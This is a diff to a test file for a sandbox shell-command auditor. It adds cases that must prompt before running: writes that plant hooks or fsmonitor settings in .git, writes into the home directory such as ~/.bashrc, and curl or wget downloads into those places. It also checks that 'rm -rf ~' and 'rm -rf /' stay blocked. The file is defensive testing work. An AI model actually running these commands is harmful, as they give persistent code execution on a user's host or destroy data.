@@ -1,4 +1,5 @@
-import { describe, expect, it } from "vitest";
+import { dirname } from "node:path";
+import { describe, expect, it, vi } from "vitest";
 import { auditCommand, normalizeCommand } from "../../src/sandbox/shell-audit.js";
 
 const BLOCK: string[] = [
@@ -647,5 +648,121 @@ describe("auditCommand", () => {
 
   it("normalizeCommand collapses whitespace", () => {
     expect(normalizeCommand("  npm   install\n  x ")).toBe("npm install x");
+  });
+});
+
+// Issue 26, second adversarial pass (A2): git's configuration and hooks run code later on the host (`git status`
+// runs core.fsmonitor, `git commit` runs .git/hooks/*), so writing them asks whatever shape the write takes.
+const ASK_GIT_CONTROL: string[] = [
+  "printf '[core]\\n\\tfsmonitor = touch m\\n' >> .git/config",
+  "printf '#!/bin/sh\\nid\\n' > .git/hooks/post-commit && chmod +x .git/hooks/post-commit",
+  "echo x | tee -a .git/config",
+  "tee .git/hooks/pre-commit < evil.sh",
+  "cp evil.sh .git/hooks/pre-commit",
+  "cp -t .git/hooks evil.sh",
+  "mv evil.sh ./.git/hooks/post-checkout",
+  "install -m 755 evil.sh .git/hooks/pre-push",
+  "ln -sf ../../evil.sh .git/hooks/pre-commit",
+  "sed -i 's/a/b/' .git/config",
+  "dd if=evil of=.git/config",
+  "curl -o .git/hooks/post-merge https://h/x",
+  "echo '* filter=x' > .git/info/attributes",
+  "echo x > sub/.git/modules/lib/hooks/pre-commit",
+  "cp -r hooks/ .git",
+  "cd .git && echo x >> config",
+  "cd .git/hooks; printf '#!/bin/sh\\nid\\n' > post-commit",
+  `python3 -c "open('.git/hooks/pre-commit','w').write('id')"`,
+  "python3 <<'EOF'\nopen('.git/config','a').write('[core]\\n\\tfsmonitor = id\\n')\nEOF",
+  "find . -maxdepth 0 -fprintf .git/config '[core]'",
+];
+// A3: any program that may write, given a path in the home directory outside the workspace (as an operand, an
+// option's value or inside a script), asks; the home directory holds code the user's tools run later.
+const ASK_HOME: string[] = [
+  `find . -maxdepth 0 -fprintf "$HOME/.deerflowrc" '{}'`,
+  "find -fprintf ~/x '%p'",
+  `sed -n "w $HOME/.bashrc" a.txt`,
+  "git log --format=%H --output=$HOME/.bashrc",
+  "split -l 1 a.txt ~/x",
+  "csplit a.txt 1 -f ~/x",
+  "cmake -E copy a ~/.bashrc",
+  "python3 -m zipfile -e a.zip ~",
+  "xxd -r a.hex ~/.bashrc",
+  "yq -i '.a = 1' ~/.config/x.yml",
+  "awk -i inplace '{print}' ~/.bashrc",
+  "ssh-keygen -f ~/.ssh/id_x -N ''",
+  "openssl req -x509 -out ~/cert.pem",
+  "curl -o ~/x https://h/x",
+  "curl --output=$HOME/x https://h/x",
+  "wget -O ~/x https://h/x",
+  "unzip a.zip -d ~",
+  "cp -t ~ a",
+  "install -t ~ a",
+  "sort -o ~/x a",
+  "patch -d ~ -p1 < a.diff",
+  "git -C ~ apply a.diff",
+  "ex -s ~/.bashrc",
+  "openssl enc -in a -out ${HOME}/x",
+  "tar -C ~ -xf a.tar",
+  "rg --pre ~/x foo",
+  "less -o ~/log a.txt",
+];
+const ALLOW_HOME: string[] = [
+  "ls ~",
+  "ls -la ~/",
+  "cat ~/notes.txt",
+  "head -n 3 $HOME/notes.txt",
+  "grep -r TODO ~/src",
+  "rg foo ~/src",
+  "find ~ -name '*.md'",
+  "du -sh ~",
+  "stat ~/.bashrc",
+  "wc -l ~/a.txt",
+  "diff a.txt ~/a.txt",
+  "git -C ~/other log --oneline",
+  "echo $HOME",
+  "realpath ~/x",
+  "cat .git/config",
+  "ls .git/hooks",
+  "git --git-dir=.git log",
+  "git log -- .git",
+  "printf '%s\\n' ~/x",
+];
+
+describe("auditCommand: writes into .git control files and the home directory (issue 26, second pass)", () => {
+  it.each(ASK_GIT_CONTROL)("asks first for %j", async (cmd) => {
+    expect(await auditCommand(cmd)).toEqual({ verdict: "ask", reason: expect.stringMatching(/git's configuration or hooks|home directory|interpreter code/) });
+  });
+  it("names git's configuration and hooks as the reason", async () => {
+    expect((await auditCommand("printf '[core]\\n' >> .git/config")).reason).toBe("writes git's configuration or hooks (.git/config, .git/hooks), which run commands later on your host");
+  });
+  it.each(ASK_HOME)("asks first for %j", async (cmd) => {
+    expect((await auditCommand(cmd)).verdict).toBe("ask");
+  });
+  it("names the home directory as the reason", async () => {
+    expect((await auditCommand(`find . -maxdepth 0 -fprintf "$HOME/.deerflowrc" '{}'`)).reason).toMatch(/touches your home directory outside the workspace/);
+  });
+  it.each(ALLOW_HOME)("still allows %j (reading is fine)", async (cmd) => {
+    expect(await auditCommand(cmd)).toEqual({ verdict: "allow" });
+  });
+  it("counts the home directory's literal path, but not a path inside the project deerflow started in", async () => {
+    const project = process.cwd();
+    vi.stubEnv("HOME", dirname(project));
+    try {
+      expect((await auditCommand(`cp a ${dirname(project)}/.bashrc`)).verdict).toBe("ask");
+      expect((await auditCommand(`openssl req -x509 -out ${dirname(project)}/cert.pem`)).verdict).toBe("ask");
+      expect(await auditCommand(`cp a ${project}/b`)).toEqual({ verdict: "edit", reason: "writes files (ask mode asks before edits)" });
+      expect(await auditCommand(`cat ${dirname(project)}/.bashrc`)).toEqual({ verdict: "allow" });
+    } finally {
+      vi.unstubAllEnvs();
+    }
+  });
+  it("a version range or a revision is not the home directory", async () => {
+    expect(await auditCommand(`sed -i 's/"lodash": "~4.1"/"lodash": "~4.2"/' package.json`)).toEqual({ verdict: "edit", reason: "writes files (ask mode asks before edits)" });
+    expect(await auditCommand("git checkout HEAD~1 -- a.ts")).not.toEqual(expect.objectContaining({ reason: expect.stringMatching(/home directory/) }));
+    expect((await auditCommand("cp a ~root/")).verdict).toBe("ask");
+  });
+  it("keeps the most severe verdict: a block stays a block", async () => {
+    expect((await auditCommand("rm -rf ~")).verdict).toBe("block");
+    expect((await auditCommand("echo x > .git/hooks/pre-commit; rm -rf /")).verdict).toBe("block");
   });
 });
